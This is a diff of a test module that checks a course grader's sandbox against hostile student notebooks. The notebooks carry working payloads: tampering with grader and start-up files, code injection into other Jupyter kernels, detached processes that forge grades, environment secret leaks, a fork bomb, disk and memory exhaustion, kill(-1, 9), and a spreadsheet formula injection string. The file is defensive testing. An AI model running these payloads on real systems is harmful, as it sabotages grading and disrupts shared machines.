@@ -4,39 +4,46 @@ A security review graded a folder of honest and hostile submissions with the old
 that one student could change other students' grades. This module builds such a class at test
 time from the committed renders (as tests/test_grade.py does): six honest submissions and, for
 every class of attack the review found, a hostile one, mostly a solved lesson 00 with one extra
-cell of the learner's doing the attack. Then:
+cell of the learner's doing the attack. Each attack cell ends by raising ``HOSTILE-<class> ran:
+<what it found>``, which the feedback quotes: proof that it ran, in the sandbox, and what it saw
+there. The class is graded in two layers, each by a grader in a process of its own, ``--jobs 2``,
+with a secret in its environment:
 
-1. each honest submission is graded alone, in a run and an output folder of its own;
-2. the whole class (honest and hostile, ``--jobs 2``) is graded once, by ``python -m
-   course_teacher.grade`` in a process of its own, with a secret in its environment (the module's
-   fixture ``hostile``; every test below reads it);
-3. the honest folder is graded again, after the hostile run.
+1. Scan on (the fixture ``scanned``): ``python -m course_teacher.grade``, the class as a teacher
+   grades it, with the submissions that only the scan judges (the answers reached through the
+   registry, a code object, a forbidden helper; links, pipes and odd names). Code the scan cannot
+   read (scan.py: ``os.fork``, ``subprocess``, ``exec``, ``ctypes``, the grading machinery, a module
+   the notebook wrote) scores 0 for the teacher's review (REVIEW) before anything runs, with the cell
+   named in the feedback; a forbidden function reached scores 0 (FORBIDDEN). The attacks the scan
+   lets run (plain file reads and writes, environment reads, filling the disk, killing processes)
+   run here as in layer 2, and are contained the same way.
+2. Scan off (the fixture ``unscanned``): the same grader with the scan replaced by one that finds
+   nothing (``UNSCANNED``), on the honest submissions and every attack: each one runs, its proof is
+   in its feedback, and the sandbox alone contains it. The killed graders and the fork bomb beside
+   another grader use it too, so that their sleeper and their bomb really run.
 
-(a) The honest submissions' result.json and feedback.md are byte for byte, and their grades.csv
-rows line for line, the same in all three runs. (b) Each attacker gets what it deserves, and its
-feedback says why. (c) Nothing survives: no process of an attack (each carries a marker in its
-argv), no change to the grader's files or to the teacher's HOME, nothing in the output folder but
-what the gradebook wrote and the test planted, no temporary folder of the run.
+Around them, each honest submission is graded alone first (``alone``) and all of them again last
+(``later``). (a) The honest submissions' result.json and feedback.md are byte for byte, and their
+grades.csv rows line for line, the same in all four runs. (b) Each attacker gets what it deserves,
+and its feedback says why. (c) Nothing survives: no process of an attack (each carries a marker in
+its argv), no change to the grader's files or to the teacher's HOME, nothing in the output folder
+but what the gradebook wrote and the test planted, no temporary folder of the run.
+``test_payload_*`` show, outside the sandbox and on targets of the test's own (copies, a kernel of
+its own, a victim process), that each payload does what it says, so that the sandbox, not a broken
+payload, is what stops it.
 
-The attacks must really run for (a) and (c) to mean anything. The scan (scan.py) scores code it
-cannot read 0 for review *before* anything runs, so an attack that needs ``subprocess``, ``os.fork``
-or ``exec`` is smuggled past it: its cell writes the attack as a module, ``einops.py``, in its
-working folder and imports it (``einops`` is a package the scan allows, and not installed: the
-working folder, on the kernel's path before site-packages, provides it). Each attack cell ends by
-raising ``HOSTILE-<class> ran: <what it found>``, which the feedback quotes: proof that it ran, in
-the sandbox, and what it saw there. The attacks whose plain form the scan catches have a plain
-twin too. ``test_payload_*`` show, outside the sandbox and on targets of the test's own (copies,
-a kernel of its own, a victim process), that each payload does what it says, so that the sandbox,
-not a broken payload, is what stops it.
-
-Skipped where bwrap cannot make a sandbox, except under CI (``CI`` set), where that fails.
+Each of these runs is made once per test session, by whichever pytest-xdist worker needs it first
+(the other waits for it and reads its result: ``_once``). Skipped where bwrap cannot make a sandbox,
+except under CI (``CI`` set), where that fails.
 """
 
 import csv
+import fcntl
 import hashlib
 import io
 import json
 import os
+import pickle
 import shutil
 import signal
 import sqlite3
@@ -47,6 +54,7 @@ import textwrap
 import threading
 import time
 import uuid
+from collections import Counter
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -61,9 +69,16 @@ from course_utils.exercises import evaluate
 ROOT = Path(__file__).resolve().parent.parent
 L00, L01, L02 = "00_tensor_shapes.ipynb", "01_attention_basics.ipynb", "02_masking.ipynb"
 OPTIONS = ["--jobs", "2", "--cells", "own", "--time-limit", "2", "--cell-timeout", "30"]
-RUN = uuid.uuid4().hex[:12]
+# The grader with the scan off: grader.py calls scan.scan (the module's attribute), replaced here by
+# one that reads nothing, so that every cell runs (the fixture `unscanned` checks that it took).
+UNSCANNED = ("import sys; from course_teacher.grade import grader, scan; "
+             "scan.scan = lambda *args, **kwargs: scan.Findings(); sys.exit(grader.main(sys.argv[1:]))")
+# One value per test session, the same in every xdist worker (a run made by one is checked by both).
+_SESSION = os.environ.get("PYTEST_XDIST_TESTRUNUID") or uuid.uuid4().hex
+RUN = hashlib.sha256(f"run-{_SESSION}".encode()).hexdigest()[:12]
 MARK = f"hostile-{RUN}"  # in the argv of every process an attack starts (and in no other)
-SECRET = ("COURSE_HOSTILE_SECRET", f"s3cret-{uuid.uuid4().hex}")
+CLASS_MARK = f"{MARK}-class"  # the class's attacks (the killed graders' have their own)
+SECRET = ("COURSE_HOSTILE_SECRET", f"s3cret-{hashlib.sha256(f'secret-{_SESSION}'.encode()).hexdigest()}")
 OUTLIVE_S = 15  # class 4 acts this long after the class is built (or when a gradebook is complete)
 RUN_TIMEOUT_S = 420  # the whole class, at most (a grader that blocks on the FIFO fails here)
 AVAILABLE, WHY = sandbox.available()
@@ -164,13 +179,13 @@ def walk(roots, depth=6):
 
 '''
 
-# Detached processes need os.fork and os.execv, which the scan reads: only smuggled payloads have it.
+# The payloads that leave a process behind start with this (os.fork and os.execv: the scan reads
+# them, so these attacks run only with the scan off). The cell sets SOURCE, the payload's own text.
 DETACH = r'''
 def detach(marker, entry, *args):
-    """Run entry(*args) of this module in a process that outlives the kernel if it can: a new
-    session, orphaned by a double fork, `marker` in its argv."""
-    folder = os.path.dirname(os.path.abspath(__file__))
-    line = f"import sys; sys.path.insert(0, {folder!r}); import {__name__} as p; p.{entry}(*{args!r})"
+    """Run entry(*args) of this payload (its text: SOURCE) in a process that outlives the kernel if
+    it can: a new session, orphaned by a double fork, `marker` in its argv."""
+    line = f"{SOURCE}\n{entry}(*{args!r})"
     if os.fork() == 0:
         try:
             os.setsid()
@@ -182,7 +197,8 @@ def detach(marker, entry, *args):
 '''
 
 # 1. Append to the grader's files (found through course_utils.__file__, the repository guessed
-# from it) and to Python's start-up hooks, so that every later kernel or grader runs it.
+# from it) and to Python's start-up hooks (in the site-packages sysconfig names), so that every
+# later kernel or grader runs it. Plain file writes: the scan lets it run.
 GRADER_FILES = r'''
 SABOTAGE = "\n# HOSTILE-1: a submission appended this line\n"
 
@@ -198,8 +214,9 @@ def targets(package=None, site_folders=None):
                "submission.py", "gradebook.py")]
     paths.append(os.path.join(repository, "course_teacher", "exercises", "__init__.py"))
     if site_folders is None:
-        import site
-        site_folders = site.getsitepackages()
+        import sysconfig
+        site_folders = {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"],
+                        os.path.join(os.path.dirname(os.__file__), "site-packages")}
     for folder in site_folders:
         paths += [os.path.join(folder, "sitecustomize.py"), os.path.join(folder, "hostile.pth")]
     return paths
@@ -241,16 +258,22 @@ def attack(homes=None):
 
 # 3. Find other kernels' connection files (/proc/*/cmdline, the temporary folders, the folders
 # above) and run code in them that makes every answer wrong; then keep looking, detached.
-INJECT = r'''
+INJECT = DETACH + r'''
 SABOTAGE = ("import torch\ntorch.einsum = lambda *args, **kwargs: torch.zeros(1)\n"
             "for _name in ('padding_mask', 'scores_einsum', 'split_heads', 'merge_heads', 'my_softmax',\n"
             "              'my_attention', 'my_additive_scores', 'my_causal_mask', 'my_decoder_mask',\n"
             "              'my_masked_softmax'):\n"
             "    globals()[_name] = lambda *args, **kwargs: None\nHOSTILE_3_INJECTED = True\n")
-OWN = os.path.abspath("kernel.json")
 
 
-def connection_files(roots, proc=True):
+def own_connection():
+    """The connection file of the kernel this runs in (ipykernel's -f), or None."""
+    with open("/proc/self/cmdline", "rb") as file:
+        argv = file.read().split(b"\0")
+    return next((os.path.abspath(argv[i + 1].decode()) for i, a in enumerate(argv[:-1]) if a == b"-f"), None)
+
+
+def connection_files(roots, proc=True, own=None):
     found = set()
     for pid in os.listdir("/proc") if proc else ():
         if not pid.isdigit():
@@ -267,7 +290,7 @@ def connection_files(roots, proc=True):
         name = os.path.basename(path)
         if name.endswith(".json") and ("kernel" in name or "connection" in name):
             found.add(path)
-    return {os.path.abspath(path) for path in found} - {OWN}
+    return {os.path.abspath(path) for path in found} - {own}
 
 
 def inject(path, code=SABOTAGE, timeout=5):
@@ -291,7 +314,8 @@ def inject(path, code=SABOTAGE, timeout=5):
 
 
 def attack(roots=None, marker=None, seconds=20, code=SABOTAGE, proc=True):
-    others = sorted(connection_files(roots or default_roots(), proc))
+    own = own_connection()
+    others = sorted(connection_files(roots or default_roots(), proc, own))
     outcomes = {}
     for path in others:
         try:
@@ -299,14 +323,14 @@ def attack(roots=None, marker=None, seconds=20, code=SABOTAGE, proc=True):
         except Exception as error:
             outcomes[path] = type(error).__name__
     if marker:
-        detach(marker, "keep_injecting", seconds)
+        detach(marker, "keep_injecting", seconds, own)
     return f"others={len(others)} injected={sum(v == 'ok' for v in outcomes.values())}"
 
 
-def keep_injecting(seconds):
+def keep_injecting(seconds, own):
     end, done = time.time() + seconds, set()
     while time.time() < end:
-        for path in connection_files(default_roots()) - done:
+        for path in connection_files(default_roots(), True, own) - done:
             done.add(path)
             try:
                 inject(path)
@@ -317,7 +341,7 @@ def keep_injecting(seconds):
 
 # 4. Outlive the grader, then rewrite every gradebook it finds: from `until` on (a time fixed when
 # the class was built), or as soon as a gradebook's manifest says its run is complete.
-OUTLIVE = r'''
+OUTLIVE = DETACH + r'''
 FORGED = {"grades.csv": "student,lesson,exercise,status,mistake,points,max_points,submission,review\n"
                         "HOSTILE-4,00,00.padding_mask,passed,,999,1,x,\n",
           "result.json": '{"schema": "classroom50/result/v1", "score": 999, "max-score": 1, "tests": []}\n',
@@ -509,7 +533,7 @@ def stolen(exercise, stub, roots=None, home=None, proc=True):
 '''
 
 # The kill tests: a process that would outlive the kernel, then a cell that takes its time.
-SLEEPER = r'''
+SLEEPER = DETACH + r'''
 def sleep(seconds):
     time.sleep(seconds)
 
@@ -520,8 +544,9 @@ def attack(marker, seconds=120, hold=6):
     return "detached"
 '''
 
-# 11. Resources: processes until the process limit (each busy), memory in several processes, the
-# disk of the working folder, and answer files planted as a link or a pipe.
+# 11. Resources: processes until the process limit (each busy), memory in several processes, every
+# folder it may write filled (each a size-capped memory file system, or read-only), and answer
+# files planted as a link or a pipe.
 FORK_BOMB = r'''
 def attack(limit=400, busy=1.0):
     read, write = os.pipe()
@@ -564,18 +589,43 @@ def attack(processes=4, megabytes=512, hold=1.5):
 '''
 
 DISK = r'''
-def attack(limit=2 * 256 * 2**20):
+def exchange():
+    """The folder of this kernel's connection file (ipykernel's -f), or None."""
+    with open("/proc/self/cmdline", "rb") as file:
+        argv = file.read().split(b"\0")
+    return next((os.path.dirname(os.path.abspath(argv[i + 1].decode())) for i, a in enumerate(argv[:-1])
+                 if a == b"-f"), None)
+
+
+def writable():
+    """The folders a kernel may write: its working folder, HOME, /tmp, /dev/shm and its exchange folder."""
+    folders = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", exchange()]
+    return list(dict.fromkeys(folder for folder in folders if folder))
+
+
+def fill(folder, limit):
     written, error, index = 0, "none", 0
     chunk = b"x" * 2**24
     try:
         while written < limit:
-            with open(f"fill-{index}.bin", "wb") as file:
+            with open(os.path.join(folder, f"fill-{index}.bin"), "wb") as file:
                 for _ in range(3):  # 48 MB a file: under the kernel's file-size limit
                     written += file.write(chunk)
             index += 1
     except OSError as failed:
         error = code_of(failed)
-    return f"written_mb={written // 2**20} error={error}"
+    return written, error
+
+
+def attack(folders=None, limit=2 * 256 * 2**20):
+    """Fill each folder, then free the exchange folder again: this notebook's own grading needs it (the
+    grader's calls and the kernel's answers), and kept full it fails only that (GRADER_ERROR)."""
+    report = " ".join(f"{folder}={written // 2**20}MB:{error}" for folder in folders or writable()
+                      for written, error in [fill(folder, limit)])
+    for name in os.listdir(exchange()) if folders is None and exchange() else ():
+        if name.startswith("fill-"):
+            os.remove(os.path.join(exchange(), name))
+    return report
 '''
 
 PLANTED = r'''
@@ -605,30 +655,23 @@ def attack():
 '''
 
 
-def _payload(source, smuggled=False):
-    return COMMON + (DETACH if smuggled else "") + textwrap.dedent(source)
+def _payload(source):
+    return COMMON + textwrap.dedent(source)
 
 
-def _plain_cell(number, source, call="attack()"):
-    """A cell holding the attack itself, which the scan reads and lets through."""
-    return f"{_payload(source)}\n\nreport = {call}\nraise RuntimeError(f'HOSTILE-{number} ran: {{report}}')"
+def _attack_cell(number, source, call="attack()"):
+    """A cell holding the attack itself (and SOURCE, its text, when it detaches a process), ending
+    with its proof."""
+    payload = _payload(source)
+    text = f"\n\nSOURCE = {payload!r}" if "def detach(" in payload else ""
+    return f"{payload}{text}\n\nreport = {call}\nraise RuntimeError(f'HOSTILE-{number} ran: {{report}}')"
 
 
-def _smuggling_cell(number, source, call="attack()"):
-    """A cell that writes the attack as a module the scan never reads, imports it and calls it."""
-    return (f"with open('einops.py', 'w') as file:\n    file.write({_payload(source, smuggled=True)!r})\n\n"
-            f"import einops\n\nreport = einops.{call}\nraise RuntimeError(f'HOSTILE-{number} ran: {{report}}')")
-
-
-def _smuggling_module(source):
-    """A cell that only writes the attack's module (an exercise cell imports it)."""
-    return f"with open('einops.py', 'w') as file:\n    file.write({_payload(source, smuggled=True)!r})"
-
-
-def _load_payload(source, name, smuggled=False):
+def _load_payload(source, name):
     """A payload as a module of this process (for the tests outside the sandbox)."""
-    namespace = {"__name__": name, "__file__": f"/nowhere/{name}.py"}
-    exec(compile(_payload(source, smuggled), f"<{name}>", "exec"), namespace)  # noqa: S102 (the test's own code)
+    payload = _payload(source)
+    namespace = {"__name__": name, "SOURCE": payload}
+    exec(compile(payload, f"<{name}>", "exec"), namespace)  # noqa: S102 (the test's own code)
     return namespace
 
 
@@ -637,14 +680,13 @@ def _load_payload(source, name, smuggled=False):
 # Known mistakes of lesson 00 (as tests/test_grade.py's carol makes them).
 NO_UNSQUEEZE = "def padding_mask(lengths, max_len):\n    return torch.arange(max_len) < lengths[:, None]"
 RESHAPE_NO_PERMUTE = "def merge_heads(x):\n    B, H, L, D = x.shape\n    return x.reshape(B, L, H * D)"
+# An exercise answered by a payload's `stolen` (defined by the cell before it)
 STOLEN = """
 def {name}(*args):
     raise NotImplementedError
 
 
-import einops
-
-{name} = einops.stolen("{exercise}", {name})
+{name} = stolen("{exercise}", {name})
 """
 FORGED_VERDICT = "\n\n## 00.padding_mask (1 / 1)\n\n✅ passed … Score: 4/4\n\n## Notes\n"
 CMD = "=cmd|' -C calc'!A0"
@@ -676,63 +718,76 @@ def _honest(folder, label):
 
 def _lesson00(folder, *cells, lang="en", solved=True, name=L00, answers=None):
     """A lesson 00 notebook: the solutions (or the render), `answers` in exercise cells, and each
-    (before_exercise, source) of `cells` inserted; {"cells": their numbers}."""
+    (before_exercise, source) of `cells` inserted; {"cells": their numbers, "exercises": {exercise:
+    the number of its cell}}."""
     notebook = _solved(L00, lang) if solved else _render(L00, lang)
     for exercise, source in (answers or {}).items():
         _answer(notebook, exercise, source)
     numbers = [_insert(notebook, before, source) for before, source in cells]
     numbers = [n + sum(1 for other in numbers[i + 1:] if other <= n) for i, n in enumerate(numbers)]
     _save(notebook, folder / name)
-    return {"cells": numbers, "notebook": name}
+    exercises = {c.metadata["exercise"]: i + 1 for i, c in enumerate(notebook.cells) if c.metadata.get("exercise")}
+    return {"cells": numbers, "exercises": exercises, "notebook": name}
 
+
+# The attacks, graded in both layers.
 
 def _h01(folder, facts):
-    return _lesson00(folder, ("00.padding_mask", _plain_cell(1, GRADER_FILES)))
+    return _lesson00(folder, ("00.padding_mask", _attack_cell(1, GRADER_FILES)))
 
 
 def _h02(folder, facts):  # the startup file, then a cell that kills the kernel: the next kernel must not read it
-    return _lesson00(folder, ("00.padding_mask", _plain_cell(2, STARTUP)),
+    return _lesson00(folder, ("00.padding_mask", _attack_cell(2, STARTUP)),
                      ("00.scores_einsum", "import os\n\nos._exit(0)"))
 
 
 def _h03(folder, facts):
-    return _lesson00(folder, ("00.padding_mask", _smuggling_cell(3, INJECT, f"attack(marker={MARK + '-3'!r})")))
-
-
-def _h03_plain(folder, facts):
-    return _lesson00(folder, ("00.padding_mask", f"""
-        import subprocess, sys
-
-        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)", {MARK + '-3p'!r}], start_new_session=True)
-    """))
+    return _lesson00(folder, ("00.padding_mask", _attack_cell(3, INJECT, f"attack(marker={CLASS_MARK + '-3'!r})")))
 
 
 def _h04(folder, facts):
-    call = f"attack({facts['until']!r}, {facts['last']!r}, marker={MARK + '-4'!r})"
-    return _lesson00(folder, ("00.padding_mask", _smuggling_cell(4, OUTLIVE, call)))
-
-
-def _h04_plain(folder, facts):
-    return _lesson00(folder, ("00.padding_mask", """
-        import os, time
-
-        if os.fork() == 0:
-            os.setsid()
-            time.sleep(30)
-            os._exit(0)
-    """))
+    call = f"attack({facts['until']!r}, {facts['last']!r}, marker={CLASS_MARK + '-4'!r})"
+    return _lesson00(folder, ("00.padding_mask", _attack_cell(4, OUTLIVE, call)))
 
 
 def _h05(folder, facts):
-    return _lesson00(folder, ("00.padding_mask", _plain_cell(5, KILL)),
-                     ("00.scores_einsum", _plain_cell(5, KILL, "attack(me_too=True)")))
+    return _lesson00(folder, ("00.padding_mask", _attack_cell(5, KILL)),
+                     ("00.scores_einsum", _attack_cell(5, KILL, "attack(me_too=True)")))
 
 
 def _h06(folder, facts):  # and its padding_mask raises with the whole environment it sees
     leak = ("def padding_mask(lengths, max_len):\n    import os\n\n"
             "    raise RuntimeError(' '.join(f'{k}={v}' for k, v in sorted(os.environ.items())))")
-    return _lesson00(folder, ("00.padding_mask", _plain_cell(6, ENVIRON)), answers={"00.padding_mask": leak})
+    return _lesson00(folder, ("00.padding_mask", _attack_cell(6, ENVIRON)), answers={"00.padding_mask": leak})
 
+
+def _h07_reach(folder, facts):  # the registry, or the old private reference, from the sandbox
+    return _lesson00(folder, ("00.padding_mask", _payload(REFERENCES)),
+                     answers={"00.padding_mask": STOLEN.format(name="padding_mask", exercise="00.padding_mask")})
+
+
+def _h08(folder, facts):  # the solutions, other notebooks, IPython's history
+    return _lesson00(folder, ("00.padding_mask", _payload(SOLUTIONS)), solved=False,
+                     answers={"00.padding_mask": STOLEN.format(name="padding_mask", exercise="00.padding_mask")})
+
+
+def _h11_fork(folder, facts):
+    return _lesson00(folder, ("00.padding_mask", _attack_cell("11-fork", FORK_BOMB)))
+
+
+def _h11_memory(folder, facts):
+    return _lesson00(folder, ("00.padding_mask", _attack_cell("11-memory", MEMORY)))
+
+
+def _h11_disk(folder, facts):
+    return _lesson00(folder, ("00.padding_mask", _attack_cell("11-disk", DISK)))
+
+
+def _h11_answers(folder, facts):
+    return _lesson00(folder, ("00.padding_mask", _attack_cell("11-answers", PLANTED)))
+
+
+# What only the scan judges (graded with the scan on only).
 
 def _h07_registry(folder, facts):
     return _lesson00(folder, answers={"00.padding_mask": """
@@ -799,27 +854,6 @@ def _h07_private(folder, facts):
     return _lesson00(folder, ("00.padding_mask", "from course_utils.exercises.l06_transformer import _masks_reference"))
 
 
-def _h07_reach(folder, facts):  # smuggled: the registry, or the old private reference, in the sandbox
-    return _lesson00(folder, ("00.padding_mask", _smuggling_module(REFERENCES)),
-                     answers={"00.padding_mask": STOLEN.format(name="padding_mask", exercise="00.padding_mask")})
-
-
-def _h08(folder, facts):  # smuggled: the solutions, other notebooks, IPython's history
-    return _lesson00(folder, ("00.padding_mask", _smuggling_module(SOLUTIONS)), solved=False,
-                     answers={"00.padding_mask": STOLEN.format(name="padding_mask", exercise="00.padding_mask")})
-
-
-def _h08_plain(folder, facts):
-    return _lesson00(folder, ("00.padding_mask", """
-        import json
-
-        solution = json.load(open("notebooks/solutions/en/00_tensor_shapes.ipynb"))
-        for cell in solution["cells"]:
-            if cell["cell_type"] == "code":
-                exec("".join(cell["source"]))
-    """), solved=False)
-
-
 def _h09_link_solution(folder, facts):
     folder.mkdir(parents=True)
     os.symlink(ROOT / "notebooks" / "solutions" / "en" / L00, folder / L00)
@@ -870,38 +904,53 @@ def _h10_forged(folder, facts):
     return _lesson00(folder, answers={"00.padding_mask": forged})
 
 
-def _h11_fork(folder, facts):
-    return _lesson00(folder, ("00.padding_mask", _smuggling_cell("11-fork", FORK_BOMB)))
+def _h12_subprocess(folder, facts):
+    return _lesson00(folder, ("00.padding_mask", f"""
+        import subprocess, sys
+
+        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)", {CLASS_MARK + '-12'!r}],
+                         start_new_session=True)
+    """))
 
 
-def _h11_memory(folder, facts):
-    return _lesson00(folder, ("00.padding_mask", _smuggling_cell("11-memory", MEMORY)))
+def _h12_ctypes(folder, facts):
+    return _lesson00(folder, ("00.padding_mask", "import ctypes\n\nctypes.CDLL(None).kill(-1, 9)"))
 
 
-def _h11_disk(folder, facts):
-    return _lesson00(folder, ("00.padding_mask", _plain_cell("11-disk", DISK)))
+def _h12_module(folder, facts):  # a module written in HOME, put on the import path and imported
+    return _lesson00(folder, ("00.padding_mask", """
+        import os, sys
 
-
-def _h11_answers(folder, facts):
-    return _lesson00(folder, ("00.padding_mask", _smuggling_cell("11-answers", PLANTED)))
+        with open(os.path.expanduser("~/helpers.py"), "w") as file:
+            file.write("import os\\nos.kill(-1, 9)\\n")
+        sys.path.insert(0, os.path.expanduser("~"))
+        import helpers
+    """))
 
 
 # The class, in the order its folders sort: the honest ones spread among the hostile ones, so that
 # each honest submission is graded beside attacks. label -> builder (honest: a key of HONEST).
 CLASS = [
-    ("ann", None), ("h01-grader-files", _h01), ("h02-startup", _h02), ("h03-inject", _h03),
-    ("h03-inject-plain", _h03_plain), ("bo", None), ("h04-outlive", _h04), ("h04-outlive-plain", _h04_plain),
-    ("h05-kill", _h05), ("h06-environ", _h06), ("kim", None), ("h07-registry", _h07_registry),
+    ("ann", None), ("h01-grader-files", _h01), ("h02-startup", _h02), ("h03-inject", _h03), ("bo", None),
+    ("h04-outlive", _h04), ("h05-kill", _h05), ("h06-environ", _h06), ("kim", None), ("h07-registry", _h07_registry),
     ("h07-importlib", _h07_importlib), ("h07-code-object", _h07_code), ("h07-disable", _h07_disable),
     ("h07-helpers", _h07_helpers), ("h07-private", _h07_private), ("h07-reach", _h07_reach), ("li", None),
-    ("h08-solutions", _h08), ("h08-solutions-plain", _h08_plain), ("h09-link-solution", _h09_link_solution),
-    ("h09-link-student", _h09_link_student), ("h09-lesson-06", _h09_as_lesson_06),
-    ("h09-result", _h09_result_json), ("pat", None), ("h09-fifo", _h09_fifo), ("h09-dev-zero", _h09_dev_zero),
-    ("h09-passwd", _h09_passwd), ("h11-fork-bomb", _h11_fork), ("ula", None), ("h11-memory", _h11_memory),
-    ("h11-disk", _h11_disk), ("h11-answers", _h11_answers),
+    ("h08-solutions", _h08), ("h09-link-solution", _h09_link_solution), ("h09-link-student", _h09_link_student),
+    ("h09-lesson-06", _h09_as_lesson_06), ("h09-result", _h09_result_json), ("pat", None), ("h09-fifo", _h09_fifo),
+    ("h09-dev-zero", _h09_dev_zero), ("h09-passwd", _h09_passwd), ("h11-fork-bomb", _h11_fork), ("ula", None),
+    ("h11-memory", _h11_memory), ("h11-disk", _h11_disk), ("h11-answers", _h11_answers),
+    ("h12-subprocess", _h12_subprocess), ("h12-ctypes", _h12_ctypes), ("h12-module", _h12_module),
 ]
 # Folders named by the attack itself (they sort where they sort).
 NAMED = [(CMD, _h10_formula), (HTML, _h10_forged)]
+# What the scan alone judges, or what concerns no kernel: graded with the scan on only.
+SCAN_ONLY = {"h07-registry", "h07-importlib", "h07-code-object", "h07-disable", "h07-helpers", "h07-private",
+             "h09-link-solution", "h09-link-student", "h09-lesson-06", "h09-result", "h09-fifo", "h09-dev-zero",
+             "h09-passwd", "h12-subprocess", "h12-ctypes", "h12-module", CMD, HTML}
+# The attacks (graded in both layers) that the scan lets run: plain file writes and reads, signals.
+SCAN_LETS_RUN = {"h01-grader-files", "h02-startup", "h05-kill", "h06-environ", "h11-disk"}
+ATTACKS = [label for label, build in CLASS if build is not None and label not in SCAN_ONLY]
+LAYERS = ("scanned", "unscanned")
 
 
 def _student(index, label):
@@ -912,13 +961,14 @@ STUDENTS = {label: _student(index, label) for index, (label, _) in enumerate(CLA
 STUDENTS.update({name: name for name, _ in NAMED})
 
 
-def _build(root, until, last):
-    """Write the whole class under `root`; {student folder: facts for the asserts}."""
+def _build(root, until, last, scanned):
+    """Write the class of a layer under `root`; {student folder: facts for the asserts}."""
     facts = {"until": until, "last": last, "ann": STUDENTS["ann"]}
     built = {}
     for label, build in CLASS + NAMED:
-        folder = root / STUDENTS[label]
-        built[STUDENTS[label]] = _honest(folder, label) if build is None else build(folder, facts)
+        if scanned or label not in SCAN_ONLY:
+            folder = root / STUDENTS[label]
+            built[STUDENTS[label]] = _honest(folder, label) if build is None else build(folder, facts)
     return built
 
 
@@ -1007,7 +1057,41 @@ def _machine():
             "site hooks": _hashes(_site_hooks()), "IPython startup files": _hashes(_startup_files())}
 
 
+def _uids(pids):
+    """{uid: how many of `pids` it runs now} (the real uid of each)."""
+    found = Counter()
+    for pid in pids:
+        try:
+            status = Path(f"/proc/{pid}/status").read_text()
+        except OSError:
+            continue
+        found.update(int(line.split()[1]) for line in status.splitlines() if line.startswith("Uid:"))
+    return found
+
+
 # ----------------------------------------------------------------------------- the runs
+
+def _once(tmp_path_factory, name, make):
+    """make() once per test session, whichever xdist worker asks first; the other waits for it and
+    reads its result (pickled in the session's shared temporary folder). A run made only once also
+    keeps two graders of this module from sharing the two cores."""
+    base = tmp_path_factory.getbasetemp()
+    shared = base.parent if os.environ.get("PYTEST_XDIST_WORKER") else base
+    done, failed = shared / f"hostile-{RUN}-{name}.pickle", shared / f"hostile-{RUN}-{name}.failed"
+    with open(shared / f"hostile-{RUN}-{name}.lock", "w") as lock:
+        fcntl.flock(lock, fcntl.LOCK_EX)
+        if failed.exists():
+            pytest.fail(f"the run {name!r} failed in another worker:\n{failed.read_text()}")
+        if done.exists():
+            return pickle.loads(done.read_bytes())
+        try:
+            value = make()
+        except BaseException as error:
+            failed.write_text(f"{type(error).__name__}: {error}")
+            raise
+        done.write_bytes(pickle.dumps(value))
+        return value
+
 
 @dataclass
 class Run:
@@ -1018,8 +1102,9 @@ class Run:
     printed: str = ""
     seconds: float = 0.0
 
-    def rows(self, student):
-        return [row for row in csv.DictReader(io.StringIO(self.files["grades.csv"].decode())) if row["student"] == student]
+    def rows(self, student=None):
+        table = list(csv.DictReader(io.StringIO(self.files["grades.csv"].decode())))
+        return [row for row in table if student is None or row["student"] == student]
 
     def result(self, key):
         return json.loads(self.files[f"{gradebook.safe_folder(key)}/result.json"])
@@ -1058,6 +1143,12 @@ def _grade_here(root, out):
     return Run(root, out, _read_out(out), outcome["code"], printed.getvalue(), time.monotonic() - started)
 
 
+def _grader_command(root, out, scanned=True, options=OPTIONS):
+    """The grader as a teacher runs it, or (scanned=False) the same with the scan off."""
+    head = ["-m", "course_teacher.grade"] if scanned else ["-c", UNSCANNED]
+    return [sys.executable, *head, str(root), "--out", str(out), *options]
+
+
 def _key(student):
     label = next(label for label, name in STUDENTS.items() if name == student)
     return f"{student}/{HONEST[label][1][:-len('.ipynb')]}"
@@ -1070,14 +1161,18 @@ HONEST_STUDENTS = [STUDENTS[label] for label in HONEST]
 def alone(tmp_path_factory):
     """Each honest submission graded alone: {student: Run}, in a run and output folder of its own."""
     _sandbox_or_skip()
-    runs = {}
-    for label in HONEST:
-        student = STUDENTS[label]
-        root = tmp_path_factory.mktemp(f"alone-{label}")
-        _honest(root / student, label)
-        runs[student] = _grade_here(root, tmp_path_factory.mktemp(f"alone-{label}-out"))
-        assert runs[student].code == 0, runs[student].printed
-    return runs
+
+    def make():
+        runs = {}
+        for label in HONEST:
+            student = STUDENTS[label]
+            root = tmp_path_factory.mktemp(f"alone-{label}")
+            _honest(root / student, label)
+            runs[student] = _grade_here(root, tmp_path_factory.mktemp(f"alone-{label}-out"))
+            assert runs[student].code == 0, runs[student].printed
+        return runs
+
+    return _once(tmp_path_factory, "alone", make)
 
 
 @dataclass
@@ -1098,22 +1193,21 @@ class Hostile(Run):
 PLANTED_NOTE = b"the teacher's own notes: the grader must leave them alone\n"
 
 
-@pytest.fixture(scope="module")
-def hostile(alone, tmp_path_factory):
-    """The whole class graded once, `--jobs 2`, by `python -m course_teacher.grade` in a process of its
-    own whose environment holds SECRET; then, once class 4's time has come and gone, what is left."""
-    base = tmp_path_factory.mktemp("class")
+def _grade_class(alone, tmp_path_factory, scanned):
+    """The class of a layer graded once, `--jobs 2`, by the grader (scan on or off) in a process of
+    its own whose environment holds SECRET; then, once class 4's time has come and gone, what is left."""
+    base = tmp_path_factory.mktemp("scanned" if scanned else "unscanned")
     root, out = base / "submissions", base / "grades"
     until = time.time() + OUTLIVE_S
-    facts = _build(root, until, until + 120)
+    facts = _build(root, until, until + 120, scanned)
     out.mkdir()
     (out / "notes.txt").write_bytes(PLANTED_NOTE)
     before = _machine()
     with pytest.MonkeyPatch.context() as patch:
         patch.setenv(*SECRET)
         started = time.monotonic()
-        process = subprocess.Popen([sys.executable, "-m", "course_teacher.grade", str(root), "--out", str(out),
-                                    *OPTIONS], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        process = subprocess.Popen(_grader_command(root, out, scanned), cwd=ROOT, stdout=subprocess.PIPE,
+                                   stderr=subprocess.PIPE, text=True)
     try:
         printed, stderr = process.communicate(timeout=RUN_TIMEOUT_S)
     except subprocess.TimeoutExpired:
